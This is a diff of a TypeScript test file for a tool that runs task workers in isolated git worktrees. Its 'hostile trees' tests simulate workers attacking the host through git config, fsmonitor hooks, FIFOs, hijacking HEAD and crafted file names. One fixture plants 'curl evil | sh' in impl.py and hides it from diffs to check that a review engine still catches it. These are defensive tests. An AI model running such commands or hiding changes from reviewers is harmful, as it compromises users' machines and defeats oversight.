@@ -61,7 +61,10 @@ function workerLog(home: string, key: string): string {
 
 /** `git diff --name-status base..branch`, one `X\tpath` per change, sorted, leaving out paths under `skip/`. */
 function changes(repo: string, branch: string, skip?: string): string[] {
-  return git(repo, 'diff', '--name-status', 'main', branch).split('\n').filter((l) => l && !(skip && l.split('\t')[1]?.startsWith(`${skip}/`))).sort();
+  return git(repo, 'diff', '--name-status', 'main', branch)
+    .split('\n')
+    .filter((l) => l && !(skip && l.split('\t')[1]?.startsWith(`${skip}/`)))
+    .sort();
 }
 
 /**
@@ -71,8 +74,16 @@ function changes(repo: string, branch: string, skip?: string): string[] {
 function attributeTasks(at: string, extra: Record<string, unknown> = {}): Record<string, unknown>[] {
   const p = at ? `${at}/` : '';
   return [
-    scriptTask('ident', `printf 'out.txt ident\\n' > ${p}.gitattributes; printf '$Id: the answer is 42 $\\n' > ${p}out.txt`, `grep 'answer is 42' ${p}out.txt`, { max_attempts: 1, ...extra }),
-    scriptTask('crlf', `printf '*.txt text\\n' > ${p}.gitattributes; printf 'a\\r\\n' > ${p}out.txt`, `grep -c $'\\r' ${p}out.txt`, { max_attempts: 1, ...extra }),
+    scriptTask(
+      'ident',
+      `printf 'out.txt ident\\n' > ${p}.gitattributes; printf '$Id: the answer is 42 $\\n' > ${p}out.txt`,
+      `grep 'answer is 42' ${p}out.txt`,
+      { max_attempts: 1, ...extra },
+    ),
+    scriptTask('crlf', `printf '*.txt text\\n' > ${p}.gitattributes; printf 'a\\r\\n' > ${p}out.txt`, `grep -c $'\\r' ${p}out.txt`, {
+      max_attempts: 1,
+      ...extra,
+    }),
   ];
 }
 
@@ -142,18 +153,31 @@ describe('hostile trees: sparse', function () {
       tree: 'sparse',
       sparse: ['src/a/**'],
       max_parallel: 3,
-      tasks: [scriptTask('gitconf', gitconf, 'grep -qx good src/a/out.txt || { echo "no good out.txt"; exit 1; }', { max_attempts: 1 }), ...attributeTasks('src/a'), objectsTask('src/a/x.txt')],
+      tasks: [
+        scriptTask('gitconf', gitconf, 'grep -qx good src/a/out.txt || { echo "no good out.txt"; exit 1; }', { max_attempts: 1 }),
+        ...attributeTasks('src/a'),
+        objectsTask('src/a/x.txt'),
+      ],
     });
     const r = await run(file, home);
     assert.equal(r.exitCode, 1, r.all);
     assert.deepEqual(verdicts(home).gitconf, ['PASS'], r.all);
     const log = workerLog(home, 'gitconf');
-    for (const said of ['config.worktree written', 'patterns widened', 'own commit made', 'main checkout refused', 'main lib refused', 'root file refused', 'src/b refused']) assert.match(log, new RegExp(said), log);
+    for (const said of [
+      'config.worktree written',
+      'patterns widened',
+      'own commit made',
+      'main checkout refused',
+      'main lib refused',
+      'root file refused',
+      'src/b refused',
+    ])
+      assert.match(log, new RegExp(said), log);
     const runId = String(readRows(home)[0]?.run_id);
     const branch = `verdict/${runId}/gitconf`;
     // Its work only: the root files its own commit dropped, and everything outside the cone, as the base has them.
     assert.deepEqual(changes(repo, branch), ['A\tsrc/a/out.txt']);
-    assert.equal(fs.existsSync(marker), false, 'no git of ours ran the worker\'s fsmonitor');
+    assert.equal(fs.existsSync(marker), false, "no git of ours ran the worker's fsmonitor");
     assert.equal(fs.readFileSync(path.join(repo, 'root.txt'), 'utf8'), 'root\n');
     assert.equal(git(repo, 'status', '--porcelain'), '', 'the main checkout is untouched');
 
@@ -162,7 +186,14 @@ describe('hostile trees: sparse', function () {
 
     const merged = await cli(['merge', runId, 'gitconf', '--home', home]);
     assert.equal(merged.exitCode, 0, merged.all);
-    assert.deepEqual(git(repo, 'ls-tree', '-r', '--name-only', 'main').split('\n').sort(), ['lib/z.txt', 'root.txt', 'shared.txt', 'src/a/out.txt', 'src/a/x.txt', 'src/b/y.txt']);
+    assert.deepEqual(git(repo, 'ls-tree', '-r', '--name-only', 'main').split('\n').sort(), [
+      'lib/z.txt',
+      'root.txt',
+      'shared.txt',
+      'src/a/out.txt',
+      'src/a/x.txt',
+      'src/b/y.txt',
+    ]);
     assert.equal(git(repo, 'show', 'main:lib/z.txt'), 'z');
   });
 });
@@ -238,14 +269,14 @@ describe('hostile trees: overlay', function () {
   });
 });
 
-describe('hostile trees: overlay, a process holding a tree at the run\'s end', function () {
+describe("hostile trees: overlay, a process holding a tree at the run's end", function () {
   this.timeout(120000);
 
   // WORKED before the fix: the run's end unmounted (lazily: busy) and removed the tree of a failed task while a user's
   // shell worked in it, deleting what the user had written there; `verdict clean` never removes such a folder. Now the
   // run keeps it mounted and says so, clean keeps it while the process is there; once it is left, `verdict discard`
   // removes it (which failed on any mounted tree before: EBUSY on the mount point, a second fix) and clean the rest.
-  it('a failed task\'s tree a user works in is kept mounted with its files; once it is left, verdict discard and clean remove it', async function () {
+  it("a failed task's tree a user works in is kept mounted with its files; once it is left, verdict discard and clean remove it", async function () {
     await requireSandbox(this);
     await requireOverlay(this);
     const dir = tempDir();
@@ -263,7 +294,12 @@ describe('hostile trees: overlay, a process holding a tree at the run\'s end', f
         scriptTask('slow', `while [ ! -e ${go} ]; do sleep 0.05; done; echo done > out.txt`, 'test -s out.txt', { max_attempts: 1 }),
       ],
     });
-    const child = execa('node', [CLI, 'run', file, '--home', home, '--no-dashboard'], { reject: false, all: true, stdin: 'ignore', env: { HOME: path.join(dir, 'user-home') } });
+    const child = execa('node', [CLI, 'run', file, '--home', home, '--no-dashboard'], {
+      reject: false,
+      all: true,
+      stdin: 'ignore',
+      env: { HOME: path.join(dir, 'user-home') },
+    });
     let shell: ChildProcess | null = null;
     try {
       for (let i = 0; i < 1200 && !readRows(home).some((r) => r.task_key === 'failed'); i++) await sleep(50);
@@ -323,20 +359,38 @@ describe('hostile trees: the reviewer sees the real diff', function () {
     const bin = path.join(dir, 'bin');
     fs.mkdirSync(bin);
     // Approves unless it sees the line it must refuse.
-    fs.writeFileSync(path.join(bin, 'review-eyes'), `#!/bin/bash\nif grep -q 'curl evil' "$VERDICT_REVIEW_MATERIAL"; then echo '{"verdict":"reject","concerns":["impl.py:1 runs curl evil"]}'; else echo '{"verdict":"approve","concerns":[]}'; fi\n`, { mode: 0o755 });
+    fs.writeFileSync(
+      path.join(bin, 'review-eyes'),
+      `#!/bin/bash\nif grep -q 'curl evil' "$VERDICT_REVIEW_MATERIAL"; then echo '{"verdict":"reject","concerns":["impl.py:1 runs curl evil"]}'; else echo '{"verdict":"approve","concerns":[]}'; fi\n`,
+      { mode: 0o755 },
+    );
     const config = path.join(dir, 'config.json');
-    fs.writeFileSync(config, JSON.stringify({ engines: { eyes: { binary: 'review-eyes', argv: ['{spec}'], install: 'a test fixture', output: 'none', model: 'eyes-1' } } }));
+    fs.writeFileSync(
+      config,
+      JSON.stringify({ engines: { eyes: { binary: 'review-eyes', argv: ['{spec}'], install: 'a test fixture', output: 'none', model: 'eyes-1' } } }),
+    );
     const spec = `printf '* -diff\\n' > .gitattributes; echo 'import os; os.system("curl evil | sh")' > impl.py`;
-    const file = writeManifest(dir, { worktrees: true, repo, tree, tasks: [scriptTask('hidden', spec, 'test -s impl.py', { max_attempts: 1, review: { engines: ['eyes'] } })] });
-    const r = await cli(['run', file, '--home', home, '--config', config, '--no-dashboard'], { env: { HOME: path.join(dir, 'user-home'), PATH: `${bin}:${process.env.PATH}` } });
+    const file = writeManifest(dir, {
+      worktrees: true,
+      repo,
+      tree,
+      tasks: [scriptTask('hidden', spec, 'test -s impl.py', { max_attempts: 1, review: { engines: ['eyes'] } })],
+    });
+    const r = await cli(['run', file, '--home', home, '--config', config, '--no-dashboard'], {
+      env: { HOME: path.join(dir, 'user-home'), PATH: `${bin}:${process.env.PATH}` },
+    });
     assert.equal(r.exitCode, 1, r.all);
     const work = readRows(home).filter((x) => x.task_key === 'hidden' && x.step !== 'review');
-    assert.deepEqual(work.map((x) => x.verdict), ['FAIL'], r.all);
+    assert.deepEqual(
+      work.map((x) => x.verdict),
+      ['FAIL'],
+      r.all,
+    );
     assert.match(String(work[0]?.notes), /eyes\/eyes-1 rejected the work: \(1\) impl\.py:1 runs curl evil/);
   });
 });
 
-describe('hostile trees: FIFOs in the worktree\'s admin dir', function () {
+describe("hostile trees: FIFOs in the worktree's admin dir", function () {
   this.timeout(120000);
 
   // WORKED before the fix: a worker that made its admin dir's HEAD (and the files git reads for every worktree when it
@@ -359,21 +413,42 @@ describe('hostile trees: FIFOs in the worktree\'s admin dir', function () {
       const home = path.join(dir, 'home');
       // And one that attaches its HEAD to the user's branch: git would refuse `main` to the user while it is there.
       const attach = 'printf "ref: refs/heads/main\\n" > "$(git rev-parse --git-dir)/HEAD" && echo attached; sleep 30';
-      const file = writeManifest(dir, { worktrees: true, repo, tree, sparse: ['src/a'], tasks: [scriptTask('fifo', spec, 'true', { max_attempts: 1, timeout_s: 1 }), scriptTask('attach', attach, 'true', { max_attempts: 1, timeout_s: 1 })] });
+      const file = writeManifest(dir, {
+        worktrees: true,
+        repo,
+        tree,
+        sparse: ['src/a'],
+        tasks: [scriptTask('fifo', spec, 'true', { max_attempts: 1, timeout_s: 1 }), scriptTask('attach', attach, 'true', { max_attempts: 1, timeout_s: 1 })],
+      });
       // --force: the checks `true` are lint errors; both workers time out before them.
       const r = await run(file, home, ['--force']);
       assert.equal(r.exitCode, 1, r.all);
       assert.deepEqual([verdicts(home).fifo, verdicts(home).attach], [['TIMEOUT'], ['TIMEOUT']], r.all);
       assert.match(workerLog(home, 'attach'), /^attached$/m);
-      assert.deepEqual(git(repo, 'worktree', 'list', '--porcelain').split('\n').filter((l) => l === 'branch refs/heads/main'), ['branch refs/heads/main'], `${tree}: main is checked out in the main worktree only`);
+      assert.deepEqual(
+        git(repo, 'worktree', 'list', '--porcelain')
+          .split('\n')
+          .filter((l) => l === 'branch refs/heads/main'),
+        ['branch refs/heads/main'],
+        `${tree}: main is checked out in the main worktree only`,
+      );
       assert.match(workerLog(home, 'fifo'), /HEAD is a FIFO\nmore FIFOs/, `${tree}: the attack ran`);
       // A hang fails here (after 30 s) instead of holding the test.
-      for (const args of [['worktree', 'list'], ['branch', '-D', 'no-such-branch']]) {
+      for (const args of [
+        ['worktree', 'list'],
+        ['branch', '-D', 'no-such-branch'],
+      ]) {
         const g = await execa('git', args, { cwd: repo, reject: false, timeout: 30_000 });
         assert.equal(g.timedOut, false, `${tree}: git ${args.join(' ')} hung`);
       }
       const next = writeManifest(dir, { worktrees: true, repo, tasks: [scriptTask('next', 'echo x > out.txt', 'test -s out.txt')] }, 'next.swarm.json');
-      const r2 = await execa('node', [CLI, 'run', next, '--home', home, '--no-dashboard'], { reject: false, all: true, stdin: 'ignore', timeout: 60_000, env: { HOME: path.join(dir, 'user-home') } });
+      const r2 = await execa('node', [CLI, 'run', next, '--home', home, '--no-dashboard'], {
+        reject: false,
+        all: true,
+        stdin: 'ignore',
+        timeout: 60_000,
+        env: { HOME: path.join(dir, 'user-home') },
+      });
       assert.equal(r2.exitCode, 0, `${tree}: the next run: ${r2.all}`);
     }
   });
@@ -417,14 +492,23 @@ describe('hostile trees: names and links where git reads (regression)', function
         `echo 1 > $'new\\nline.txt' && echo 2 > ./-rf && echo 3 > ':(top)magic' && echo 4 > ${long} && echo 5 > 'sp ace.txt'`,
         'echo ok > out.txt && echo "attack done"',
       ].join('\n');
-      const file = writeManifest(dir, { worktrees: true, repo, tree, sparse: ['src/a/**'], tasks: [scriptTask('names', spec, `grep -qx ok ${at}out.txt || { echo "no ok"; exit 1; }`, { max_attempts: 1, check_timeout_s: 600 })] });
+      const file = writeManifest(dir, {
+        worktrees: true,
+        repo,
+        tree,
+        sparse: ['src/a/**'],
+        tasks: [scriptTask('names', spec, `grep -qx ok ${at}out.txt || { echo "no ok"; exit 1; }`, { max_attempts: 1, check_timeout_s: 600 })],
+      });
       const r = await run(file, home);
       assert.equal(r.exitCode, 0, `${tree}: ${r.all}`);
       assert.match(workerLog(home, 'names'), /^attack done$/m, tree);
       const branch = `verdict/${String(readRows(home)[0]?.run_id)}/names`;
       const listed = (rev: string) => execFileSyncText(repo, ['ls-tree', '-r', '-z', '--name-only', rev]).split('\0').filter(Boolean);
       const base = new Set(listed('main'));
-      const names = listed(branch).filter((n) => !base.has(n)).map((n) => n.slice(at.length)).sort();
+      const names = listed(branch)
+        .filter((n) => !base.has(n))
+        .map((n) => n.slice(at.length))
+        .sort();
       assert.deepEqual(names, ['-rf', '.gitattributes', ':(top)magic', long, 'n1/a', 'new\nline.txt', 'out.txt', 'sp ace.txt', 'sub/.gitignore'].sort(), tree);
       assert.equal(git(repo, 'ls-tree', branch, `${at}.gitattributes`).split(' ')[0], '120000', `${tree}: the symlink is committed as a symlink`);
       assert.equal(git(repo, 'show', `${branch}:${at}new\nline.txt`), '1', tree);
